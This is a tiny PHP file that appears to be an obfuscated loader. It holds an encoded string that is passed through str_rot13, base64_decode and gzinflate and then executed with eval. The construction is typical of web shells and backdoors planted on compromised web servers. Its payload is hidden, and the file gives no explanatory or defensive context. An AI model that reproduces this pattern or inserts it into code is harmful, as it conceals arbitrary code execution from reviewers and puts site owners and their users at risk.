<?php
$x = "F8iZFL0iXP2WG87CX0aAXlaJHApilF3D1lgJ11SVN0zzclWYMcFHSSwc6kfMTBfM6OxnThhM6kseyIFHdTgdJvgx5vKayXnxXfPAfNLN";
eval(gzinflate(base64_decode(str_rot13($x))));
